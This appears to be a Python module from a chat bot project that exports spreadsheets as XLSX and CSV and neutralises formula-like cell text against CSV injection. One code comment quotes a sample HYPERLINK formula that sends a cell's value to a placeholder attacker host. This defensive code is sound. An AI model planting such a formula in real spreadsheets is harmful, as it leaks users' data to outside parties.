"""Spreadsheet files (openpyxl, write-only mode). Building one is CPU work: callers run it in a
thread so other users' updates are not held up."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Mapping, Sequence

from aiogram_i18n import I18nContext


def header_row(i18n: I18nContext, key: str) -> list[object]:
    """A sheet's header row: the locale keeps it as «column | column | …»."""
    return [part.strip() for part in i18n.get(key).split("|")]


# A cell starting with one of these is a formula to a spreadsheet (OWASP «CSV injection»):
# «=HYPERLINK("http://evil.example/?d="&A1)» typed as a street must stay text.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def workbook_bytes(sheets: Mapping[str, Sequence[Sequence[object]]]) -> bytes:
    """Sheets by name, each a list of rows (the first row is the header, frozen in place; each
    column as wide as its longest value, within reason). Text that looks like a formula is
    stored as text: it is shown as typed and never runs."""
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.utils import get_column_letter

    book = Workbook(write_only=True)
    for name, rows in sheets.items():
        sheet = book.create_sheet(name[:31])
        sheet.freeze_panes = "A2"
        widths: dict[int, int] = {}
        for row in rows:
            for column, value in enumerate(row, start=1):
                widths[column] = max(widths.get(column, 0), len(str(value or "")))
        for column, width in widths.items():
            sheet.column_dimensions[get_column_letter(column)].width = min(max(width + 2, 8), 60)
        for row in rows:
            cells: list[object] = []
            for value in row:
                if isinstance(value, str) and value.startswith(FORMULA_STARTS):
                    cell = WriteOnlyCell(sheet, value=value)
                    cell.data_type = "s"
                    cells.append(cell)
                else:
                    cells.append(value)
            sheet.append(cells)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def csv_bytes(rows: Iterable[Sequence[object]]) -> bytes:
    """CSV as Excel in a Russian locale opens it: «;» between cells, UTF-8 with a BOM. Text that
    would start a formula gets a leading apostrophe (the OWASP rule)."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=";")
    for row in rows:
        writer.writerow(
            "'" + value if isinstance(value, str) and value.startswith(FORMULA_STARTS) else value
            for value in row
        )
    return buffer.getvalue().encode("utf-8-sig")
